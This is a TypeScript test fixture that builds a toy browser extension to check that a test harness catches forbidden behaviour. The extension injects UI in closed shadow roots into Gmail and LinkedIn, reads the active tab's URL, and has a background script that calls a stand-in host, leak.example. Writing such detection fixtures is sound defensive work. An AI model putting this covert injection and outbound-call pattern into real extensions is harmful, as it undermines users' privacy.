/** A tiny extension that does what ours must never do, to see that the harness notices. */
import { mkdir, mkdtemp, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import type { Kind } from '../../tools/browsers.ts';

const sites = ['https://mail.google.com/*', 'https://www.linkedin.com/*'];

/** Runs in the page, as a content script: a button in a closed shadow root that opens a panel in another. */
function content(): void {
  const inRoot = (...children: Element[]) => {
    const host = document.createElement('div');
    host.attachShadow({ mode: 'closed' }).append(...children);
    document.body.append(host);
  };
  const make = (tag: string, words = '') => Object.assign(document.createElement(tag), { textContent: words });
  document.addEventListener('DOMContentLoaded', () => {
    const button = make('button', 'Withdraw gracefully');
    inRoot(button);
    button.addEventListener('click', (event) => {
      const field = make('input') as HTMLInputElement;
      field.setAttribute('aria-label', 'Role');
      field.value = 'Potter';
      const preview = make('section', String(event.isTrusted));
      preview.setAttribute('aria-label', 'Preview');
      const dialog = make('dialog') as HTMLDialogElement;
      dialog.setAttribute('aria-label', 'Withdraw gracefully');
      dialog.append(field, preview);
      inRoot(dialog);
      dialog.show();
      // biome-ignore lint/suspicious/noExplicitAny: the bare API of either browser
      const api = (globalThis as any).browser ?? (globalThis as any).chrome;
      api.runtime.sendMessage('');
      Promise.reject(new Error('thrown in the page'));
    });
  });
}

/** Runs in the background. */
function background(): void {
  // biome-ignore lint/suspicious/noExplicitAny: the bare API of either browser
  const api = (globalThis as any).browser ?? (globalThis as any).chrome;
  api.runtime.onMessage.addListener(() => {
    fetch('https://leak.example/').catch(() => {});
    Promise.reject(new Error('thrown in the background'));
  });
}

/** Runs in the popup: tells which tab it is for. */
function popup(): void {
  // biome-ignore lint/suspicious/noExplicitAny: the bare API of either browser
  const api = (globalThis as any).browser ?? (globalThis as any).chrome;
  api.tabs.query({ active: true, currentWindow: true }).then(([tab]: { url: string }[]) => {
    const button = document.querySelector('button');
    button?.addEventListener('click', (event) => button.replaceChildren(`${event.isTrusted} ${tab?.url}`));
    button?.setAttribute('aria-label', 'Copy');
  });
}

/** @returns the folder it was written to */
export async function writeToy(kind: Kind): Promise<string> {
  const folder = await mkdtemp(path.join(os.tmpdir(), 'toy-extension-'));
  const manifest = {
    manifest_version: 3,
    name: 'Toy',
    version: '1',
    permissions: ['activeTab'],
    host_permissions: sites,
    content_scripts: [{ matches: sites, js: ['content.js'], run_at: 'document_start', all_frames: true }],
    background: kind === 'firefox' ? { scripts: ['background.js'] } : { service_worker: 'background.js' },
    action: { default_popup: 'popup/index.html' },
    ...(kind === 'firefox' ? { browser_specific_settings: { gecko: { id: 'toy@toy.example' } } } : {}),
  };
  const files = {
    'manifest.json': JSON.stringify(manifest),
    'content.js': `(${content})()`,
    'background.js': `(${background})()`,
    'popup/index.html': '<!doctype html><title>Toy</title><button>…</button><script src="popup.js"></script>',
    'popup/popup.js': `(${popup})()`,
  };
  await mkdir(path.join(folder, 'popup'));
  for (const [name, text] of Object.entries(files)) await writeFile(path.join(folder, name), text);
  return folder;
}
